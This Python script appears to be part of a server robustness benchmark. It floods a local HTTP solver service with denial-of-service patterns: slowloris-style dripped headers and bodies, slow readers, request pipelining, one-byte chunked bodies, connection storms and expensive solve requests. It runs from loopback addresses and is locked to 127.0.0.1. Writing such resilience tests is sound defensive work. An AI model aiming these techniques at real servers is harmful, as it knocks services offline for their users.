"""One process of a benchmark: clients that mean harm to a server on this machine, for some seconds.

They come from addresses of their own, which only Linux has in 127.0.0.0/8, and never leave this machine. JSON tells how
often each answer came; whether others still get theirs is for the row to measure.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import socket
from collections import Counter
from itertools import count
from time import perf_counter

KINDS = (
    "chunks", "pipeline", "connections", "storm", "heads", "bodies", "readers", "texts", "variations", "lights",
    "searches",
)  # fmt: skip
_CHUNK = b"1\r\n \r\n"
_LARGE = "kernel.wasm"  # 360 KB: more than the system keeps for a connection
_FILES = 8192
_DRIP = 2.0
_KEPT = 512  # bytes that a slow reader takes from the system before it reads them
_REST = 0.05


def _said(host: str, what: str, *headers: str) -> bytes:
    return "\r\n".join((f"{what} HTTP/1.1", f"Host: {host}", *headers, "", "")).encode()


def _asked(host: str, what: str, body: dict[str, str]) -> bytes:
    data = json.dumps(body)
    return (
        _said(host, f"POST /api/{what}", "Content-Type: application/json", f"Content-Length: {len(data)}")
        + data.encode()
    )


class Attacker:
    """Connections of one kind from many addresses; `answers` counts status lines, or what broke a connection."""

    def __init__(self, place: tuple[str, int], host: str, chunks: int) -> None:
        self._place = place
        post = "POST /api/game", "Content-Type: application/json"
        self._chunks = _said(host, *post, "Transfer-Encoding: chunked") + _CHUNK * chunks
        self._pipelined = _said(host, "GET /api/health") * 5_000
        self._head = _said(host, *post)[:-2] + b"X-Slow: "
        self._body = _said(host, *post, "Content-Length: 60000")
        self._file = _said(host, f"GET /{_LARGE}")
        self._text = _asked(host, "read", {"text": "KS QS\n" * 9_000})
        tree = "# deal: microsoft 617\n1a " + "ab (ac) ba " * 5_000
        self._tree = _asked(host, "read", {"text": tree})
        self._host = host
        self._number = count(2_000_001)
        self.answers: Counter[str] = Counter()

    async def chunks(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Send a body in chunks of one byte."""
        await self._flood(reader, writer, self._chunks)

    async def pipeline(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Send thousands of small requests in one go, and read one answer."""
        await self._flood(reader, writer, self._pipelined)

    async def connections(self, reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
        """Connect and say nothing."""
        await reader.read()

    async def storm(self, _reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
        """Connect, and cut the connection."""

    async def heads(self, _reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Send a head, a byte now and then."""
        await self._drip(writer, self._head)

    async def bodies(self, _reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Send a body, a byte now and then."""
        await self._drip(writer, self._body)

    async def readers(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Ask for a large file, and read a byte of it now and then."""
        writer.write(self._file)
        while await reader.read(1):  # noqa: ASYNC110  it is no condition that is waited for
            await asyncio.sleep(_DRIP)

    async def texts(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Send the longest text that is read."""
        await self._flood(reader, writer, self._text)

    async def variations(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Send a solution of the most moves that a text has room for, every second one with another beside it."""
        await self._flood(reader, writer, self._tree)

    async def searches(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Ask for the solution of a deal with two cells."""
        link = f"game=freecell&cells=2&deal={next(self._number)}"
        await self._flood(reader, writer, _asked(self._host, "solve", {"link": link}))

    async def lights(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Ask for the light of a deal with two cells."""
        link = f"game=freecell&cells=2&deal={next(self._number)}"
        await self._flood(reader, writer, _asked(self._host, "light", {"link": link}))

    async def _flood(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, data: bytes) -> None:
        writer.write(data)
        self.answers[(await reader.readline()).decode("latin-1").strip() or "closed"] += 1

    async def _drip(self, writer: asyncio.StreamWriter, begin: bytes) -> None:
        writer.write(begin)
        while True:
            await writer.drain()
            await asyncio.sleep(_DRIP)
            writer.write(b"x")

    async def _connected(self, kind: str, address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        one = socket.socket()
        one.setblocking(False)
        if kind == "readers":
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        try:
            one.bind((address, 0))
            await asyncio.get_running_loop().sock_connect(one, self._place)
        except BaseException:
            one.close()
            raise
        return await asyncio.open_connection(sock=one, limit=_KEPT if kind == "readers" else 1 << 16)

    async def attack(self, kind: str, address: str, end: float) -> None:
        """Open one connection after the other until the clock says *end*."""
        while (left := end - perf_counter()) > 0:
            try:
                async with asyncio.timeout(left):
                    reader, writer = await self._connected(kind, address)
                    try:
                        await getattr(self, kind)(reader, writer)
                    finally:
                        writer.transport.abort()
            except TimeoutError:
                return
            except OSError as error:
                self.answers[type(error).__name__] += 1
                await asyncio.sleep(_REST)


async def _all(args: argparse.Namespace) -> Counter[str]:
    attacker = Attacker((args.address, args.port), args.host, args.chunks)
    end = perf_counter() + args.seconds
    addresses = [f"127.1.{1 + number // 250}.{1 + number % 250}" for number in range(args.addresses)]
    await asyncio.gather(
        *(attacker.attack(args.kind, addresses[number % len(addresses)], end) for number in range(args.connections))
    )
    return attacker.answers


def main() -> None:
    """Attack as the command line says and print one JSON object."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address", choices=["127.0.0.1"])
    parser.add_argument("port", type=int)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--host", default="localhost", help="as whom the server is asked")
    parser.add_argument("--addresses", type=int, default=30)
    parser.add_argument("--connections", type=int, default=300, help="of all addresses together")
    parser.add_argument("--chunks", type=int, default=65_000, help="of a body")
    parser.add_argument("--seconds", type=float, default=10)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (_FILES if hard == resource.RLIM_INFINITY else min(_FILES, hard), hard))
    print(json.dumps(asyncio.run(_all(parser.parse_args()))))


if __name__ == "__main__":
    main()
